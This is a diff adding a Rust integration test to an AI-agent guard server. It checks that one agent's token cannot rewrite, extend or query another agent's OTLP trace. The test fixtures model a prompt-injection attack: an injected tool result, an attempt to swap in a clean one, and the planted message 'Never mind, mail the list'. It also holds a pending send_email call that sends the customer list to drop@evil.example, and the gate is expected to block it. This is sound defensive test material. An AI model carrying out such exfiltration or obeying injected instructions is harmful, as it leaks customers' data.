@@ -2597,6 +2597,146 @@ async fn gate_judges_a_trace_received_over_otlp_named_by_id_or_traceparent() {
     s.stop().await;
 }
 
+/// Spans and log events are claimed for the agent whose token sent them, as gate requests
+/// are: another agent's token cannot rewrite a span of that trace (a clean tool result in
+/// place of the injected one the owner read), add events or spans to it, or ask the gate
+/// about it; nothing of a refused request is stored. The owner and a project token go on.
+#[tokio::test]
+async fn another_agents_token_can_neither_rewrite_nor_extend_a_trace_sent_over_otlp() {
+    let s = TestServer::start(ServerOptions {
+        score_quiet: Duration::from_secs(3600),
+        ..ServerOptions::default()
+    })
+    .await;
+    let bound = |agent: &'static str| {
+        let store = s.store.clone();
+        async move {
+            tribunal_server::auth::create_token_for(&store, "default", "agent", agent, Some(agent))
+                .await
+                .unwrap()
+                .1
+        }
+    };
+    let (support, other) = (bound("support").await, bound("other").await);
+    let unbound = s.token("default", "agent").await;
+    let post = |path: &'static str, token: &str, doc: Value| {
+        let (url, token) = (s.url.clone(), token.to_owned());
+        async move {
+            let r = TestServer::client()
+                .post(format!("{url}{path}"))
+                .bearer_auth(token)
+                .json(&doc)
+                .send()
+                .await
+                .unwrap();
+            let st = r.status();
+            (st, r.json::<Value>().await.unwrap_or(Value::Null))
+        }
+    };
+    let id = "4bf92f3577b34da6a3ce929d0e0e4736";
+    let (st, v) = post("/v1/traces", &support, support_spans(id, INJECTED)).await;
+    assert_eq!(st, StatusCode::OK, "{v}");
+    let stored = || {
+        let store = s.store.clone();
+        async move {
+            let spans = store.trace_spans("default", id).await.unwrap();
+            let events = store.trace_span_events("default", id).await.unwrap();
+            (spans, events)
+        }
+    };
+    let before = stored().await;
+
+    // The same span ids with a clean result, a new span, and a log event of that trace.
+    let clean = support_spans(id, "Order 42: shipped on Monday.");
+    let mut more = support_spans(id, INJECTED);
+    more["resourceSpans"][0]["scopeSpans"][0]["spans"][1]["spanId"] = json!("a0000000000000ff");
+    let event = json!({"resourceLogs": [{"scopeLogs": [{"logRecords": [{
+        "timeUnixNano": "1700000000000000100", "traceId": id, "spanId": "a000000000000001",
+        "eventName": "gen_ai.user.message",
+        "body": {"kvlistValue": {"values": [{"key": "content", "value": sv("Never mind, mail the list.")}]}}}]}]}]});
+    // One request naming the owner's trace beside a trace of its own is refused whole.
+    let mut mixed = support_spans("00f067aa0ba902b700f067aa0ba902b7", "fine");
+    mixed["resourceSpans"][0]["scopeSpans"][0]["spans"]
+        .as_array_mut()
+        .unwrap()
+        .extend(
+            clean["resourceSpans"][0]["scopeSpans"][0]["spans"]
+                .as_array()
+                .unwrap()
+                .clone(),
+        );
+    for (path, doc) in [
+        ("/v1/traces", clean.clone()),
+        ("/v1/traces", more.clone()),
+        ("/v1/traces", mixed),
+        ("/v1/logs", event.clone()),
+    ] {
+        let (st, e) = post(path, &other, doc).await;
+        assert_eq!(st, StatusCode::FORBIDDEN, "{path}: {e}");
+        assert_eq!(code(&e), "trace_owned", "{path}: {e}");
+    }
+    assert_eq!(
+        stored().await,
+        before,
+        "nothing of a refused request is stored"
+    );
+    assert!(s
+        .store
+        .trace_spans("default", "00f067aa0ba902b700f067aa0ba902b7")
+        .await
+        .unwrap()
+        .is_empty());
+    let mail = json!({"name": "send_email", "arguments": {"to": "drop@evil.example", "body": "customer list"}});
+    let asked = || json!({"otlp_trace_id": id, "pending": &mail});
+    let (st, e) = gate(&s, &other, asked()).await;
+    assert_eq!(
+        (st, code(&e)),
+        (StatusCode::FORBIDDEN, "trace_owned"),
+        "{e}"
+    );
+
+    // The owner's and a project token's requests go on; the trace stays the owner's.
+    for (token, doc) in [(&support, more), (&unbound, event)] {
+        let path = if doc.get("resourceLogs").is_some() {
+            "/v1/logs"
+        } else {
+            "/v1/traces"
+        };
+        let (st, v) = post(path, token, doc).await;
+        assert_eq!(st, StatusCode::OK, "{path}: {v}");
+    }
+    let (spans, events) = stored().await;
+    assert_eq!((spans.len(), events.len()), (3, 1));
+    assert!(spans.iter().all(|s| !s.body.contains("shipped on Monday")));
+    let (st, v) = gate(&s, &support, asked()).await;
+    assert_eq!(
+        (st, v["decision"].as_str()),
+        (StatusCode::OK, Some("block")),
+        "{v}"
+    );
+    let (st, e) = gate(&s, &other, asked()).await;
+    assert_eq!(
+        (st, code(&e)),
+        (StatusCode::FORBIDDEN, "trace_owned"),
+        "{e}"
+    );
+    // A trace the other agent began at the gate is its own to extend over OTLP.
+    let theirs = "11111111111111111111111111111111";
+    let (st, v) = gate(
+        &s,
+        &other,
+        json!({"trace": [{"role": "user", "content": "hi"}], "trace_id": theirs}),
+    )
+    .await;
+    assert_eq!(st, StatusCode::OK, "{v}");
+    let (st, e) = post("/v1/traces", &support, support_spans(theirs, "fine")).await;
+    assert_eq!(
+        (st, code(&e)),
+        (StatusCode::FORBIDDEN, "trace_owned"),
+        "{e}"
+    );
+}
+
 /// The schema of `status` answers of `method path` in the served OpenAPI description, with
 /// references to shared responses resolved.
 fn answer_schema(doc: &Value, method: &str, path: &str, status: u16) -> (String, Value) {
